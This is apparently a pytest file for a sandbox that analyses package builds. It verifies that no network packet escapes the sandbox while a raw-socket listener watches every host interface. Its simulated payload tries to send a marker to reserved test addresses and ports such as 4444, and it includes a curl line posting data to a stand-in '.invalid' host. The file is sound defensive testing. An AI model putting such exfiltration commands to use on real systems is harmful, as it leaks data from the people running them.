"""No packet leaves: every interface of the host is listened on while a crate sends all it can."""

from __future__ import annotations

import json
import secrets
import subprocess
import sys
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from ipaddress import IPv6Address
from typing import TYPE_CHECKING

import pytest

from analyzer.model import FactKind

if TYPE_CHECKING:
    from sandbox.observe import Setting

    from .conftest import Build

pytestmark = [pytest.mark.docker]

# Hears every interface of the host, bridges of containers among them; keeps what holds the word or
# goes to an address of the run's own. Ends, and tells, when its input ends.
_LISTEN = """
import json, select, socket, sys
word, last = sys.argv[1].encode(), int(sys.argv[1][:2], 16)
four = [bytes((*one, last)) for one in ((192, 0, 2), (198, 51, 100), (203, 0, 113))]
six = bytes.fromhex("20010db8" + sys.argv[1]) + bytes(4)
ear = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3))
ear.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 24)
print("ready", flush=True)
heard, of_all = [], 0
while True:
    ready = select.select([ear, sys.stdin], [], [])[0]
    if ear in ready:
        data, (name, *_) = ear.recvfrom(65536)
        of_all += 1
        marks = {
            "address": data[12:14] == b"\\x08\\x00" and data[30:34] in four,
            "arp": data[12:14] == b"\\x08\\x06" and data[38:42] in four,
            "six": data[12:14] == b"\\x86\\xdd" and data[38:54] == six,
            "word": word in data,
        }
        heard += [(name, one) for one, is_so in marks.items() if is_so]
    elif not sys.stdin.readline():
        break
print(json.dumps([heard, of_all]))
"""
_SEND = """
import os, socket
word = "WORD"
data = word.encode() * 3
for host in (HOSTS):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        for port in (53, 80, 443, 4444):
            try:
                row = socket.getaddrinfo(host, port, 0, kind)[0]
                with socket.socket(row[0], kind) as one:
                    one.settimeout(1)
                    one.connect(row[4])
                    one.sendall(data)
            except OSError:
                pass
for family, at in ((2, "255.255.255.255"), (2, "224.0.0.251"), (10, "ff02::fb")):
    try:
        with socket.socket(family, socket.SOCK_DGRAM) as one:
            one.setsockopt(1, 6, 1)
            one.sendto(data, (at, 5353))
    except OSError:
        pass
os.system("curl -s -m 2 https://WORD.invalid/ -d WORD; true")
"""


def hosts_of(word: str) -> tuple[str, ...]:
    """Where the payload of a run sends to: nobody else's test does."""
    last = int(word[:2], 16)
    six = IPv6Address(bytes.fromhex("20010db8" + word) + bytes(4))
    nets = ("192.0.2", "198.51.100", "203.0.113")
    return (*(f"{one}.{last}" for one in nets), str(six), f"{word}.invalid")


@contextmanager
def listening(word: str) -> Iterator[Callable[[], tuple[list[list[str]], int]]]:
    """A counter of packets of ours on this host; calling it ends it."""
    with subprocess.Popen(
        [sys.executable, "-c", _LISTEN, word],
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        text=True,
    ) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == "ready\n"

        def end() -> tuple[list[list[str]], int]:
            time.sleep(0.5)
            out, _ = process.communicate(timeout=30)
            heard, of_all = json.loads(out)
            return heard, of_all

        yield end


# The controls stay on this machine: the loopback interface, and a bridge's own address.
_CONTROL = """
import socket
ear = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
ear.bind(("lo", 0))
word = "WORD"
four = bytes((198, 51, 100, int(word[:2], 16)))
six = bytes.fromhex("20010db8" + word) + bytes(4)
for data in (
    b"\\x08\\x00" + bytes(16) + four + bytes(20),
    b"\\x08\\x06" + bytes(24) + four + bytes(20),
    b"\\x86\\xdd" + bytes(24) + six + bytes(20),
):
    ear.send(bytes(12) + data)
socket.socket(2, 2).sendto(b"WORD", ("127.0.0.1", 9))
"""


def test_the_counter_moves_for_each_kind_of_packet_on_the_host() -> None:
    word = secrets.token_hex(8)
    with listening(word) as count:
        subprocess.run([sys.executable, "-c", _CONTROL.replace("WORD", word)], check=True)
        heard, _ = count()
    assert {one for _, one in heard} == {"address", "arp", "six", "word"}


def test_the_counter_moves_when_a_container_with_a_network_sends(setting: Setting) -> None:
    word = secrets.token_hex(8)
    text = (
        "import socket\ns = socket.socket(2, 2)\n"
        "rows = [one.split() for one in open('/proc/net/route')]\n"
        "at = next(bytes.fromhex(one[2])[::-1] for one in rows if one[1] == '00000000')\n"
        f"for n in range(5): s.sendto(b'{word}', (socket.inet_ntoa(at), 9))"
    )
    with listening(word) as count:
        setting.client.containers.run(
            setting.image.tag,
            ["-c", text],
            entrypoint=["python3"],
            name=f"box-control-{word}",
            network_mode="bridge",
            remove=True,
        )
        heard, _ = count()
    assert len([one for _, one in heard if one == "word"]) >= 5


def test_no_packet_of_a_build_leaves_while_all_of_them_are_recorded(build: Build) -> None:
    word = secrets.token_hex(8)
    with listening(word) as count:
        text = _SEND.replace("HOSTS", ", ".join(map(repr, hosts_of(word))))
        seen = build(text.replace("WORD", word), code=0)
        heard, of_all = count()
    sent = "\n".join(
        data
        for one in seen.trace.facts
        if one.kind is FactKind.NET_SEND
        for data in (one.subject, *one.data)
    )
    for host in hosts_of(word):
        assert host in sent
    assert word * 3 in sent
    assert heard == [], of_all


def test_the_sinkholes_namespace_has_no_interface_that_leads_out(setting: Setting) -> None:
    """What it calls eth0 is not a pair with an end on the host."""
    from sandbox.engine import Boxes

    with Boxes(setting.client) as boxes:
        sink = boxes.sinkhole(setting.image.tag, ["net"], "host")
        sink.start()
        until = time.monotonic() + 20
        names: set[str] = set()
        while "eth0" not in names and time.monotonic() < until:
            text = sink.exec_run(["cat", "/proc/net/dev"]).output.decode()
            names = {line.split(":")[0].strip() for line in text.splitlines()[2:]}
            time.sleep(0.2)
        links = sink.exec_run(["ip", "-o", "-d", "link"]).output.decode()
        assert "eth0" in names
        for line in links.splitlines():
            assert "link-netnsid" not in line, line
